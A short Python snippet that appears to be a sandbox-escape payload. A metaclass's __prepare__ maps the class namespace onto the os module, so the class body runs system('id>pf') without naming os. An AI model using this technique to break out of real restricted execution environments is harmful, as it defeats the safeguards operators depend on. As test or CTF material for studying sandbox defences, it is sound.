import types, os
types.prepare_class
class M(type):
    @classmethod
    def __prepare__(m, *a):
        return __import__("collections").ChainMap({}, vars(os))
class C(metaclass=M):
    system("id>pf")
